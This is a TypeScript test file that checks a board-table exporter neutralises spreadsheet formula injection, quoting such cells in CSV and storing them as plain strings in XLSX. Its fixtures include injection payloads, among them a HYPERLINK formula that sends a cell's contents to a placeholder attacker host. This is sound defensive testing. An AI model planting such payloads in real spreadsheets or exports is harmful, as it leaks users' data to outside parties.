/**
 * A board or site named like a formula (`=HYPERLINK(…)`) must reach a spreadsheet as text
 *: CSV cells get a leading `'` (OWASP's CSV-injection advice, what Excel and
 * LibreOffice take as "this is text"), and the XLSX writer stores strings as strings, never as
 * formulas. Numbers, negative ones included, stay numbers.
 */
import { describe, expect, it } from 'vitest';
import { unzipSync, strFromU8 } from 'fflate';
import Papa from 'papaparse';
import type { BoardTable } from '../../../src/export/board-table.ts';
import { tableToCsv, UTF8_BOM } from '../../../src/export/csv.ts';
import { tableToXlsx } from '../../../src/export/xlsx.ts';

const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=1+1\n第二行'];
const table: BoardTable = {
  columns: [
    { id: 'name', header: '板块', kind: 'text' },
    { id: 'units', header: '套数', kind: 'number' },
  ],
  rows: [...hostile.map((name, i) => [name, -i]), ['正常名称', 5], ['a=b', 1]],
} as unknown as BoardTable;

describe('spreadsheet exports of names that look like formulas', () => {
  it('CSV: every text cell a spreadsheet would evaluate starts with a quote; numbers do not', () => {
    const csv = tableToCsv(table);
    expect(csv.startsWith(UTF8_BOM)).toBe(true);
    const rows = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n' }).data.slice(1);
    hostile.forEach((name, i) => {
      expect(rows[i][0]).toBe(`'${name}`);
      expect(rows[i][1]).toBe(String(-i));
    });
    expect(rows[hostile.length]).toEqual(['正常名称', '5']);
    expect(rows[hostile.length + 1]).toEqual(['a=b', '1']);
  });

  it('XLSX: names are string cells, never formulas; numbers are numeric cells', async () => {
    const blob = await tableToXlsx(table, 'boards');
    const files = unzipSync(new Uint8Array(await blob.arrayBuffer()));
    const sheet = strFromU8(files['xl/worksheets/sheet1.xml']);
    expect(sheet).not.toContain('<f>');
    expect(sheet).not.toContain('<f ');
    const strings = strFromU8(files['xl/sharedStrings.xml'] ?? new Uint8Array()) + sheet;
    expect(strings).toContain('=HYPERLINK(');
    // The name cells are typed as strings (shared or inline), the unit cells as numbers.
    const cells = [...sheet.matchAll(/<c r="([A-Z]+)(\d+)"([^>]*)>/g)].filter((m) => m[2] !== '1');
    for (const [, col, , attrs] of cells) {
      if (col === 'A') expect(attrs).toMatch(/t="(s|inlineStr|str)"/);
      else expect(attrs).not.toMatch(/t="/);
    }
    expect(cells.some(([, col, , attrs]) => col === 'A' && /t="str"/.test(attrs))).toBe(false);
  });
});
